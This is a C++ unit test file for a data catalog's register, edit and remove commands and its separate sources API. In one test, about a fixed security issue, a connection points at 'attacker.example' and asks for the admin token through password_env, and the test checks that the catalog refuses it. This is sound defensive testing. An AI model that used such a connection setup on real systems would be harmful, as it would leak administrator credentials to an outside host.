#define BOOST_TEST_MODULE catalog_commands
#define BOOST_TEST_DYN_LINK
#include <boost/test/unit_test.hpp>

#include "tests/catalog/test_helpers.hpp"

#include "actors/catalog/domain/accounts.hpp"
#include "actors/catalog/domain/commands.hpp"
#include "messages/text_checks.hpp"

using namespace almanac;
using namespace almanac::catalog;
using namespace almanac::catalog::test;
using json = nlohmann::json;

namespace {

json table(json extra = json::object()) {
  json body{{"urn", "urn:almanac:table:s.p.t2"}, {"kind", "table"}};
  body.update(extra);
  return body;
}

struct fixture : catalog_fixture {
  fixture() {
    add_chain();
  }

  caf::expected<command_result<register_reply>> reg(const json& body) {
    return register_entity(body, "bob", *state);
  }

  caf::expected<command_result<edit_reply>> edit(const json& body,
                                                 std::optional<uint64_t> if_match = std::nullopt,
                                                 const std::string& urn = "urn:almanac:table:s.p.t") {
    return edit_entity(urn, body, if_match, "alice", *state);
  }
};

} // namespace

BOOST_FIXTURE_TEST_SUITE(commands, fixture)

BOOST_AUTO_TEST_CASE(register_fills_defaults_and_events) {
  auto result = reg(table({{"name", "t2"},
                           {"parent", "urn:almanac:schema:s.p"},
                           {"description", "# Heading\n\n* item\twith tab"},
                           {"tags", {"pii", "gold", "pii"}},
                           {"attributes", {{"definition", "select 1\r\nfrom x"}}}}));
  BOOST_REQUIRE_MESSAGE(result, why(result));
  BOOST_CHECK_EQUAL(result->reply.urn, "urn:almanac:table:s.p.t2");
  BOOST_CHECK_EQUAL(result->reply.version, 1u);
  BOOST_REQUIRE_EQUAL(result->events.size(), 1u);
  auto& e = result->events[0];
  BOOST_CHECK_EQUAL(e.type, "EntityRegistered@1");
  BOOST_CHECK_EQUAL(e.key, "urn:almanac:table:s.p.t2");
  auto payload = json::parse(e.payload);
  BOOST_CHECK_EQUAL(payload["user"], "bob");
  BOOST_CHECK_EQUAL(payload["version"], 1);
  BOOST_CHECK_EQUAL(payload["name"], "t2");
  BOOST_CHECK_EQUAL(payload["title"], "");
  BOOST_CHECK_EQUAL(payload["tags"], (json{"pii", "gold"})); // duplicates dropped
  BOOST_CHECK_EQUAL(payload["stewards"], json::array());
  BOOST_CHECK_EQUAL(payload["deprecated"], false);
  commit(result);
  auto got = state->get("urn:almanac:table:s.p.t2");
  BOOST_REQUIRE(got && *got);
  BOOST_CHECK_EQUAL((**got)["description"], "# Heading\n\n* item\twith tab");
  BOOST_CHECK_EQUAL((**got)["parent"], "urn:almanac:schema:s.p");
}

BOOST_AUTO_TEST_CASE(register_malformed_body) {
  expect_error(reg(json::array()), ec::bad_request, "body must be a JSON object");
  expect_error(reg(json("x")), ec::bad_request, "body must be a JSON object");
  expect_error(reg(table({{"colour", "red"}})), ec::bad_request, "unknown field 'colour'");
  expect_error(reg(table({{"version", 3}})), ec::bad_request, "unknown field 'version'");
  expect_error(reg({{"kind", "table"}}), ec::bad_request, "missing required field 'urn'");
  expect_error(reg({{"urn", "urn:almanac:table:s.p.t2"}}), ec::bad_request,
               "missing required field 'kind'");
}

BOOST_AUTO_TEST_CASE(register_wrong_types) {
  expect_error(reg({{"urn", 5}, {"kind", "table"}}), ec::bad_request,
               "field 'urn' must be a string, not number");
  expect_error(reg(table({{"kind", nullptr}})), ec::bad_request, "field 'kind' must be a string");
  expect_error(reg(table({{"name", 1}})), ec::bad_request, "field 'name' must be a string");
  expect_error(reg(table({{"parent", 5}})), ec::bad_request, "field 'parent' must be a string or null");
  expect_error(reg(table({{"title", json::array()}})), ec::bad_request, "field 'title' must be a string");
  expect_error(reg(table({{"description", false}})), ec::bad_request, "field 'description'");
  expect_error(reg(table({{"tags", "pii"}})), ec::bad_request, "field 'tags' must be an array");
  expect_error(reg(table({{"tags", {"a", 2}}})), ec::bad_request, "field 'tags[1]' must be a string");
  expect_error(reg(table({{"stewards", {{{"x", 1}}}}})), ec::bad_request, "field 'stewards[0]'");
  expect_error(reg(table({{"deprecated", "yes"}})), ec::bad_request,
               "field 'deprecated' must be a boolean");
  expect_error(reg(table({{"endorsed", 1}})), ec::bad_request, "field 'endorsed' must be a boolean");
  expect_error(reg(table({{"attributes", json::array()}})), ec::bad_request,
               "field 'attributes' must be an object");
}

BOOST_AUTO_TEST_CASE(register_invalid_identifiers) {
  expect_error(reg({{"urn", "urn:almanac:table:s..t"}, {"kind", "table"}}),
               ec::invalid_argument, "field 'urn': invalid identifier");
  expect_error(reg({{"urn", "urn:almanac:table:s.p.a b"}, {"kind", "table"}}),
               ec::invalid_argument, "must be percent-encoded");
  expect_error(reg({{"urn", "table:s.p.t"}, {"kind", "table"}}), ec::invalid_argument,
               "field 'urn'");
  expect_error(reg({{"urn", "urn:almanac:table:s.p"}, {"kind", "table"}}),
               ec::invalid_argument, "3 name(s)");
  expect_error(reg(table({{"kind", "materialized_view"}})), ec::invalid_argument,
               "field 'kind': unknown kind");
  expect_error(reg(table({{"kind", "view"}})), ec::invalid_argument,
               "field 'kind' is 'view' but the urn is a table");
  expect_error(reg(table({{"name", "other"}})), ec::invalid_argument,
               "field 'name' is 'other'");
  expect_error(reg(table({{"parent", "urn:almanac:schema:s.q"}})), ec::invalid_argument,
               "field 'parent' is 'urn:almanac:schema:s.q'");
  expect_error(register_source({{"urn", "urn:almanac:source:x"}, {"kind", "source"},
                                {"parent", "urn:almanac:source:s"}},
                               "bob", *state),
               ec::invalid_argument, "field 'parent': a source has no parent");
  expect_error(reg(table({{"stewards", {"ok", "bad name"}}})), ec::invalid_argument,
               "field 'stewards[1]': invalid user name");
  expect_error(reg(table({{"terms", {"urn:almanac:tag:x"}}})), ec::invalid_argument,
               "field 'terms[0]'");
  expect_error(reg(table({{"terms", {"not a urn"}}})), ec::invalid_argument,
               "field 'terms[0]': invalid identifier");
  expect_error(reg(table({{"terms", {"urn:almanac:term:Nope"}}})), ec::invalid_argument,
               "field 'terms[0]': no term urn:almanac:term:Nope");
}

BOOST_AUTO_TEST_CASE(register_unknown_parent) {
  expect_error(reg({{"urn", "urn:almanac:table:s.q.t"}, {"kind", "table"}}),
               ec::invalid_argument, "field 'parent': no entity urn:almanac:schema:s.q");
  expect_error(reg({{"urn", "urn:almanac:column:s.p.v.c"}, {"kind", "column"}}),
               ec::invalid_argument, "register the parent first");
  // A column's parent may be a view: found when no table of that name exists.
  add({{"urn", "urn:almanac:view:s.p.v"}, {"kind", "view"},
       {"attributes", {{"materialized", true}, {"definition", "select 1"}}}});
  auto col = reg({{"urn", "urn:almanac:column:s.p.v.c"}, {"kind", "column"}});
  BOOST_REQUIRE_MESSAGE(col, why(col));
  BOOST_CHECK_EQUAL(json::parse(col->events[0].payload)["parent"], "urn:almanac:view:s.p.v");
}

BOOST_AUTO_TEST_CASE(register_control_characters_and_utf8) {
  expect_error(reg(table({{"title", "a\x01z"}})), ec::invalid_argument,
               "field 'title' contains a control character at byte 1");
  expect_error(reg(table({{"title", "two\nlines"}})), ec::invalid_argument, "field 'title'");
  expect_error(reg(table({{"description", "cr\r"}})), ec::invalid_argument,
               "field 'description' contains a control character");
  expect_error(reg(table({{"description", std::string("nul\0x", 5)}})), ec::invalid_argument,
               "field 'description'");
  expect_error(reg(table({{"tags", {"ok", "b\x7f"}}})), ec::invalid_argument, "field 'tags[1]'");
  expect_error(reg(table({{"tags", {""}}})), ec::invalid_argument, "field 'tags[0]' is empty");
  expect_error(reg(table({{"attributes", {{"definition", "x\x02"}}}})), ec::invalid_argument,
               "field 'attributes.definition'");
  // nlohmann rejects invalid UTF-8 when parsing, but a body built in code can
  // still hold it.
  expect_error(reg(table({{"title", "caf\xe9"}})), ec::invalid_argument,
               "field 'title' is not valid UTF-8");
  expect_error(reg(table({{"description", "\xc3\x28"}})), ec::invalid_argument,
               "not valid UTF-8");
  expect_error(reg(table({{"title", std::string(limits::title_bytes + 1, 'x')}})),
               ec::invalid_argument, "longer than 512 bytes");
}

BOOST_AUTO_TEST_CASE(error_messages_are_printable_utf8) {
  // Whatever the input, the message must render as a JSON string.
  for (auto& result : {reg(table({{"bad\x01key\xff", 1}})),
                       reg(table({{"name", "n\x02\xff"}})),
                       reg(table({{"kind", "k\x1b[31m"}})),
                       reg({{"urn", "urn:almanac:table:a.b.\xff\x01"}, {"kind", "table"}})}) {
    BOOST_REQUIRE(!result);
    auto msg = message_of(result.error());
    BOOST_CHECK_MESSAGE(valid_utf8(msg) && !control_char_at(msg, false), msg);
    BOOST_CHECK_NO_THROW(json(msg).dump());
  }
}

BOOST_AUTO_TEST_CASE(top_level_kinds_take_null_parent) {
  auto term = reg({{"urn", "urn:almanac:term:Active%20customer"}, {"kind", "term"},
                   {"name", "Active customer"}, {"parent", nullptr},
                   {"description", "A customer with an order in the last 90 days."}});
  BOOST_REQUIRE_MESSAGE(term, why(term));
  BOOST_CHECK_EQUAL(json::parse(term->events[0].payload)["parent"], nullptr);
}

BOOST_AUTO_TEST_CASE(register_existing_is_conflict) {
  expect_error(reg({{"urn", "urn:almanac:table:s.p.t"}, {"kind", "table"}}), ec::conflict,
               "already exists");
}

BOOST_AUTO_TEST_CASE(edit_changes_only_what_differs) {
  add({{"urn", "urn:almanac:term:Film"}, {"kind", "term"}, {"title", "Film"}});
  auto result = edit({{"title", "Films"},
                      {"description", ""}, // unchanged: "" already
                      {"tags", {"pii"}},
                      {"terms", {"urn:almanac:term:Film"}},
                      {"endorsed", true}},
                     1);
  BOOST_REQUIRE_MESSAGE(result, why(result));
  BOOST_REQUIRE_EQUAL(result->events.size(), 1u);
  BOOST_CHECK_EQUAL(result->events[0].type, "EntityEdited@1");
  auto payload = json::parse(result->events[0].payload);
  BOOST_CHECK_EQUAL(payload["user"], "alice");
  BOOST_CHECK_EQUAL(payload["version"], 2);
  BOOST_CHECK_EQUAL(payload["previous_version"], 1);
  BOOST_CHECK_EQUAL(payload["fields"], (json{{"title", "Films"},
                                             {"tags", {"pii"}},
                                             {"terms", {"urn:almanac:term:Film"}},
                                             {"endorsed", true}}));
  BOOST_CHECK_EQUAL(result->reply.version, 2u);
  BOOST_CHECK_EQUAL(result->reply.changed, true);
  commit(result);
  // The same PATCH again changes nothing: no event, same version.
  auto again = edit({{"title", "Films"}, {"endorsed", true}});
  BOOST_REQUIRE_MESSAGE(again, why(again));
  BOOST_CHECK(again->events.empty());
  BOOST_CHECK_EQUAL(again->reply.urn, "urn:almanac:table:s.p.t");
  BOOST_CHECK_EQUAL(again->reply.version, 2u);
  BOOST_CHECK_EQUAL(again->reply.changed, false);
  auto empty = edit(json::object());
  BOOST_REQUIRE(empty);
  BOOST_CHECK(empty->events.empty());
}

BOOST_AUTO_TEST_CASE(edit_errors) {
  expect_error(edit({{"title", "x"}}, std::nullopt, "urn:almanac:table:s.p.nope"),
               ec::not_found, "no entity urn:almanac:table:s.p.nope");
  expect_error(edit({{"title", "x"}}, std::nullopt, "urn:almanac:table:bad"),
               ec::invalid_argument, "invalid identifier");
  expect_error(edit({{"title", "x"}}, 7), ec::conflict,
               "is at version 1, not 7 (If-Match)");
  expect_error(edit({{"colour", "red"}}), ec::bad_request, "unknown field 'colour'");
  expect_error(edit({{"urn", "urn:almanac:table:s.p.x"}}), ec::bad_request,
               "field 'urn' cannot be edited");
  expect_error(edit({{"attributes", json::object()}}), ec::bad_request,
               "field 'attributes' cannot be edited");
  expect_error(edit(json::array()), ec::bad_request, "body must be a JSON object");
  expect_error(edit({{"title", 3}}), ec::bad_request, "field 'title' must be a string");
  expect_error(edit({{"stewards", "alice"}}), ec::bad_request, "field 'stewards' must be an array");
  expect_error(edit({{"deprecated", nullptr}}), ec::bad_request, "field 'deprecated'");
  expect_error(edit({{"title", "tab\there"}}), ec::invalid_argument, "field 'title'");
  expect_error(edit({{"terms", {"urn:almanac:term:Missing"}}}), ec::invalid_argument,
               "field 'terms[0]': no term");
  // Nothing above changed the entity.
  auto got = state->get("urn:almanac:table:s.p.t");
  BOOST_REQUIRE(got && *got);
  BOOST_CHECK_EQUAL((**got)["version"], 1);
}

BOOST_AUTO_TEST_CASE(stewards_must_be_existing_users) {
  expect_error(edit({{"stewards", {"nobody"}}}), ec::invalid_argument,
               "field 'stewards[0]': no user 'nobody'");
  expect_error(reg(table({{"stewards", {"nobody"}}})), ec::invalid_argument,
               "field 'stewards[0]': no user 'nobody'");
  commit(create_user({{"user", "vera"}, {"role", "viewer"}}, "root", *state));
  expect_error(edit({{"stewards", {"vera", "nobody"}}}), ec::invalid_argument,
               "field 'stewards[1]': no user 'nobody'");
  auto ok = edit({{"stewards", {"vera"}}});
  BOOST_REQUIRE_MESSAGE(ok, why(ok));
  BOOST_CHECK_EQUAL(ok->events.size(), 1u);
  auto fine = reg(table({{"stewards", {"vera"}}}));
  BOOST_CHECK_MESSAGE(fine, why(fine));
  // An empty list removes every steward.
  auto none = edit({{"stewards", json::array()}});
  BOOST_CHECK_MESSAGE(none, why(none));
}

BOOST_AUTO_TEST_CASE(remove_needs_cascade_for_children) {
  expect_error(remove_entity("urn:almanac:schema:s.p", std::nullopt, false, "root", *state),
               ec::conflict, "has 1 children (first: urn:almanac:table:s.p.t)");
  expect_error(remove_entity("urn:almanac:table:s.p.zz", std::nullopt, false, "root", *state),
               ec::not_found, "no entity");
  expect_error(remove_entity("urn:almanac:schema:s.p", 4, true, "root", *state),
               ec::conflict, "version conflict");
  auto result = remove_entity("urn:almanac:schema:s.p", 1, true, "root", *state);
  BOOST_REQUIRE_MESSAGE(result, why(result));
  std::vector<std::string> order;
  for (auto& e : result->events) {
    BOOST_CHECK_EQUAL(e.type, "EntityRemoved@1");
    order.push_back(e.key);
  }
  BOOST_CHECK((order == std::vector<std::string>{"urn:almanac:column:s.p.t.c",
                                                 "urn:almanac:table:s.p.t",
                                                 "urn:almanac:schema:s.p"}));
  auto first = json::parse(result->events[0].payload);
  BOOST_CHECK_EQUAL(first["cascade_of"], "urn:almanac:schema:s.p");
  BOOST_CHECK_EQUAL(first["parent"], "urn:almanac:table:s.p.t");
  BOOST_CHECK_EQUAL(first["version"], 2);
  BOOST_CHECK(!json::parse(result->events[2].payload).contains("cascade_of"));
  BOOST_CHECK_EQUAL(result->reply.removed, 3u);
  commit(result);
  auto src = state->get("urn:almanac:source:s");
  BOOST_REQUIRE(src && *src);
  BOOST_CHECK_EQUAL((**src)["children"], json::array());
  auto leaf = remove_source("urn:almanac:source:s", "root", *state);
  BOOST_REQUIRE_MESSAGE(leaf, why(leaf));
  BOOST_CHECK_EQUAL(leaf->events.size(), 1u);
}

// Issue 10: a steward could register a source whose connection sends the
// admin token (password_env) or another source's secret (password_ref) to
// their own server, and remove admin-registered sources. Only the *_source
// commands (the sources API) may do either.
BOOST_AUTO_TEST_CASE(generic_commands_never_touch_sources) {
  json evil{{"kind", "postgresql"}, {"dsn", "host=attacker.example dbname=x"},
            {"password_env", "ALMANAC_ADMIN_TOKEN"}};
  expect_error(reg({{"urn", "urn:almanac:source:evil"}, {"kind", "source"},
                    {"attributes", {{"connection", evil}}}}),
               ec::forbidden, "POST /api/v1/sources");
  expect_error(reg({{"urn", "urn:almanac:source:plain"}, {"kind", "source"}}),
               ec::forbidden, "only through the sources API");
  expect_error(reg({{"urn", "urn:almanac:source:k"}, {"kind", "table"}}), ec::forbidden,
               "POST /api/v1/sources");
  expect_error(reg(table({{"attributes", {{"connection", evil}}}})), ec::forbidden,
               "attributes.connection");
  expect_error(remove_entity("urn:almanac:source:s", std::nullopt, true, "bob", *state),
               ec::forbidden, "DELETE /api/v1/sources/{name}");
  expect_error(replace_attributes("urn:almanac:source:s", {{"connection", evil}}, "bob",
                                  *state),
               ec::forbidden, "PATCH /api/v1/sources/{name}");
  expect_error(replace_attributes("urn:almanac:table:s.p.t", {{"connection", evil}}, "bob",
                                  *state),
               ec::forbidden, "attributes.connection");
  // What they are for still works: curating a source, attributes of tables.
  auto edited = edit({{"description", "ours"}}, std::nullopt, "urn:almanac:source:s");
  BOOST_CHECK_MESSAGE(edited, why(edited));
  auto attrs = replace_attributes("urn:almanac:table:s.p.t", {{"row_count", 3}}, "bob", *state);
  BOOST_REQUIRE_MESSAGE(attrs, why(attrs));
  BOOST_CHECK_EQUAL(attrs->events.size(), 1u);
}

BOOST_AUTO_TEST_CASE(source_commands_configure_and_remove_sources) {
  json conn{{"kind", "sqlite"}, {"path", "/srv/shop.db"}};
  auto reg_src = register_source({{"urn", "urn:almanac:source:shop"}, {"kind", "source"},
                                  {"attributes", {{"connection", conn}}}},
                                 "admin", *state);
  BOOST_REQUIRE_MESSAGE(reg_src, why(reg_src));
  commit(reg_src);
  expect_error(register_source(table(), "admin", *state), ec::invalid_argument,
               "must be 'source'");
  conn["path"] = "/srv/shop2.db";
  auto changed = replace_source_attributes("urn:almanac:source:shop",
                                           {{"connection", conn}}, "admin", *state);
  BOOST_REQUIRE_MESSAGE(changed, why(changed));
  BOOST_CHECK_EQUAL(changed->reply.changed, true);
  commit(changed);
  auto same = replace_source_attributes("urn:almanac:source:shop",
                                        {{"connection", conn}}, "admin", *state);
  BOOST_REQUIRE_MESSAGE(same, why(same));
  BOOST_CHECK(same->events.empty());
  expect_error(replace_source_attributes("urn:almanac:table:s.p.t", json::object(), "admin",
                                         *state),
               ec::invalid_argument, "is not a source");
  // The whole tree goes, deepest first, the source last.
  auto removed = remove_source("urn:almanac:source:s", "admin", *state);
  BOOST_REQUIRE_MESSAGE(removed, why(removed));
  BOOST_CHECK_EQUAL(removed->events.size(), 4u);
  BOOST_CHECK_EQUAL(removed->events.back().key, "urn:almanac:source:s");
  expect_error(remove_source("urn:almanac:table:s.p.t", "admin", *state),
               ec::invalid_argument, "is not a source");
}

BOOST_AUTO_TEST_SUITE_END()
